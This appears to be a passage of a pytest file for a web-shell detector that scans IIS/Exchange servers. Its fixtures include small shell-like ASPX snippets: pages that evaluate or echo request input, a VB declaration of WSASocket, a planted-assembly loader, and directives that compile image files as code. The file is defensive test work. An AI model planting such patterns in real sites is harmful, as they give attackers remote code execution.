    stomp = next(c[1] for c in CHAIN_CASES if c[0] == "stomp.aspx").encode()
    in_client = by_rule(hunt(server_file(tmp_path, ASPNET_CLIENT + r"\s.aspx", stomp)))
    assert in_client["EXH-WS-CODE-FILE-MANAGE"].severity == Severity.HIGH


def test_only_server_code_is_parsed() -> None:
    from exhunt.filehunt import codehunt
    from exhunt.filehunt.locations import Location, Place

    def wanted(name: str, data: bytes) -> bool:
        return codehunt.wants(Location(f"c:/inetpub/wwwroot/owa/{name}", Place.IIS_WEBROOT, True), data)

    browser = b"var x = new XMLHttpRequest(); x.open('GET', '/owa/service.svc?action=' + request.id);"
    assert not wanted("app.js", browser)
    assert wanted("srv.js", b"import System.Web;\nfunction f(c : HttpContext) { eval(c.Request['x'], 'unsafe'); }")
    assert not wanted("static.aspx", b"<html><body>no server code, just a request form</body></html>")
    assert wanted("s.aspx", b'<%@ Page Language="C#" %><% Response.Write(Request["x"]); %>')
    # input only through page controls, no `Request` anywhere
    assert wanted("fm.aspx", b'<%@ Page Language="C#" %><asp:TextBox ID="c" runat="server" />')
    assert wanted("fm2.aspx", b'<%@ Page %><input type="file" id="f" runat="server" />')
    assert not wanted("plain.aspx", b'<%@ Page %><input type="text" name="q" />')
    # UTF-16 either way round: the words are looked for in the text, not in its bytes
    page = '<%@ Page Language="C#" %><% Response.Write(Request["x"]); %>'
    assert wanted("le.aspx", page.encode("utf-16-le")) and wanted("be.aspx", page.encode("utf-16-be"))
    assert not wanted("be-static.aspx", "<html><body>a request form</body></html>".encode("utf-16-be"))
    # VB's own P/Invoke, with no DllImport or kernel32 in the page
    vb = '<%@ Page Language="VB" %><script runat="server">Declare Function WSASocket Lib "ws2_32.dll" () As IntPtr</script>'
    assert wanted("rev.aspx", vb.encode())
    # a small page whose only code creates an object of a planted assembly's class
    assert wanted("t.aspx", b'<%@ Page Language="C#" %><% new Zk.Loader(this).Run("k4"); %>')
    assert not wanted("t.html.aspx", b"<p>no server code</p>")


@pytest.mark.parametrize(
    ("code", "shown"),
    [
        (
            '<%@ Assembly Src="images/logo.jpg" %>\n<%@ Page Language="C#" %>',
            "'images/logo.jpg' as server code (Assembly Src)",
        ),
        ('<%@ Page Language="C#" CodeFile="readme.txt" Inherits="P" %>', "'readme.txt' as server code (Page CodeFile)"),
        (
            '<%@ Control Language="VB" Src="data\\\\cache.dat" Inherits="C" %>',
            "'data\\\\cache.dat' as server code (Control Src)",
        ),
        (
            '<%@ Page Language="C#" %>\n<script runat="server" src="images/logo.png"></script>\n<p>hi</p>',
            "'images/logo.png' as server code (script runat=server src)",
        ),
    ],
    ids=["Assembly Src", "Page CodeFile", "Control Src", "script src"],
)
def test_a_directive_compiling_a_non_code_file(code: str, shown: str) -> None:
    report = run("a.aspx", code)
    assert "EXH-WS-CODE-INCLUDE" in medium_or_above(report)
    assert shown in chains(report)["EXH-WS-CODE-INCLUDE"]


@pytest.mark.parametrize(
    "code",
    [
        '<%@ Page Language="C#" CodeFile="Default.aspx.cs" Inherits="Site.Default" %>',
        '<%@ Assembly Src="~/App_Code/Util.cs" %>',
        '<%@ Page Language="VB" Src="Report.aspx.vb" Inherits="Report" %>',
        '<%@ WebHandler Language="C#" Class="H" CodeBehind="H.ashx.cs" %>',
        '<%@ Page Language="C#" %>\n<script runat="server" src="Code/Helper.cs"></script>\n<script src="jquery.png"></script>',
    ],
    ids=["CodeFile .cs", "Assembly Src .cs", "Src .vb", "CodeBehind", "script src .cs"],
)
def test_directives_compiling_source_files_stay_quiet(code: str) -> None:
    assert medium_or_above(run("a.aspx", code)) == []
